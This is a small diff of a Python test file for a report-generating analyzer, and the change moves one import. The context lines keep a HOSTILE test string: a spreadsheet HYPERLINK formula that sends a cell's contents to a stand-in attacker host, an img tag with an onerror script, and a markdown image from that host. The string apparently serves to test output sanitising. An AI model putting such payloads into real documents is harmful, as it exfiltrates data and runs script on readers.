@@ -16,11 +16,10 @@ from analyzer.errors import UsageError
 from analyzer.index.types import Hit
 from analyzer.reports.answer_html import answer_html
 from analyzer.reports.answer_sheets import answer_sheets
-from analyzer.reports.report_method import Method
 from analyzer.reports.svg_charts import picture
 from analyzer.reports.xlsx_sheets import workbook_bytes
 from analyzer.store.output_files import FORMULA_STARTS, safe_text, write_whole
-from analyzer.types import Citation, Claim
+from analyzer.types import Citation, Claim, Method
 
 HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1) <img src=http://evil.example/x onerror=alert(1)> ![x](http://evil.example)'
 METHOD = Method(
